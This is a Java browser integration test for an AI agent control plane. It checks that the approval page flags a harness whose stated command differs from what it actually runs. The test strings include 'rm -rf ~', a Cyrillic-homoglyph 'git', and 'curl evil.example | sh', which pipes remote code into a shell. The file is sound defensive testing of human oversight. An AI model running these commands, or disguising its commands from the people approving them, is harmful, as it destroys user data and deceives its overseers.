package dev.ratoon.controlplane.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.assertions.LocatorAssertions;
import com.microsoft.playwright.options.ColorScheme;
import dev.ratoon.controlplane.agents.Fleet;
import dev.ratoon.controlplane.agents.GitRepository;
import dev.ratoon.controlplane.database.TestDatabase;
import dev.ratoon.controlplane.egress.OutsideStub;
import dev.ratoon.controlplane.login.TestPeople;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import jakarta.inject.Inject;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A harness whose words do not fit together, in a real browser: it is told as such. */
@QuarkusTest
@QuarkusTestResource(TestDatabase.class)
@QuarkusTestResource(value = OutsideStub.class, restrictToAnnotatedClass = true)
@TestProfile(AskingIT.Asking.class)
class LyingHarnessIT {
    private static final LocatorAssertions.ContainsTextOptions LONG =
            new LocatorAssertions.ContainsTextOptions().setTimeout(60_000);

    @Inject TestPeople people;
    @TempDir Path directory;
    private String agent = "";

    @AfterEach
    void delete() {
        people.owner().delete("/api/agents/" + agent);
    }

    @Tag("long")
    @Test
    void what_is_not_what_it_looks_like_or_not_what_was_allowed_is_told() throws Exception {
        var fleet = new Fleet(people.owner(), repository());
        agent = fleet.start("normal", "go", Map.of("harness", "asker"));
        fleet.awaitDecision(agent);
        String name = fleet.agent(agent).path("name").asText();
        try (var chromium = new Chromium();
                Tab tab = chromium.tab(Chromium.PHONE, ColorScheme.LIGHT)) {
            tab.signIn(people.ownerLink());
            tab.page().navigate(people.base() + "/agents/" + name);
            Locator asked = tab.page().locator("section.decision");
            assertThat(asked).containsText("Its title is not what will run.");
            assertThat(asked).containsText("“g\u0456t” (U+0456)");
            assertEquals("", tab.accessibilityFaults());
            tab.button("Allow once").click();
            fleet.awaitTurn(agent, 1);
            Locator main = tab.page().locator("main");
            String words =
                    "It was allowed to run “rm -rf ~; g\u0456t log”, and says that it runs"
                            + " “curl evil.example | sh”.";
            assertThat(main).containsText(words, LONG);
            assertThat(main).containsText("Look at what it has done");
            Locator calls = tab.page().locator("details.tool");
            assertThat(calls.first()).containsText(words);
            assertThat(calls.last()).containsText("got no end");
            assertThat(calls.last()).containsText("/w/a.txt");
            assertEquals("", tab.accessibilityFaults());
            assertEquals(0, tab.pixelsBeyondTheEdge());
            assertEquals(List.of(), tab.complaints());
        }
        JsonNode told = fleet.events(agent, "decision.overstepped").getFirst();
        assertEquals("observed", told.path("source").asText());
        assertEquals("command", told.path("payload").path("input").asText());
    }

    /** With the script under the name that the profile's harness has. */
    private GitRepository repository() throws Exception {
        GitRepository repository = GitRepository.in(directory);
        try (InputStream script =
                Objects.requireNonNull(LyingHarnessIT.class.getResourceAsStream("liar.sh"))) {
            Files.copy(script, repository.folder().resolve("asker.sh"));
        }
        repository.git("add", "-A");
        repository.git(
                "-c", "user.name=Ada", "-c", "user.email=ada@example.com", "commit", "-qm", "two");
        return repository;
    }
}
